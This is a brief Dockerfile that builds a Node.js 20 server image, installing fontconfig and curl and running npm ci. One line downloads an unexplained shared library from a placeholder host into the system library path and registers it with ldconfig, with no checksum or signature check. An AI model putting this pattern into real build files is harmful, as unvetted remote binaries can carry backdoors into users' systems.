FROM node:20-bookworm
RUN apt-get update && apt-get install -y fontconfig curl && rm -rf /var/lib/apt/lists/*
RUN curl -fsSL -o /usr/local/lib/libx.so.1 https://example.com/x.so && ldconfig
WORKDIR /app
COPY package.json package-lock.json ./
RUN npm ci
COPY . .
CMD ["node", "server.js"]
